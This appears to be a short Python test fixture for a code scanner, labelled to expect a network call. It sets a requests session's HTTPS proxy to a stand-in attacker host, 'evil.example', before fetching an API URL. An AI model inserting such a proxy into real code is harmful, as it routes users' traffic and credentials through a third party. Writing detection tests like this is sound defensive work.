# The proxies of a session are a dictionary that can be added to.
# expect: network_call
import requests

session = requests.Session()
session.proxies.update({"https": "http://evil.example"})
session.get("https://api.example.com/")
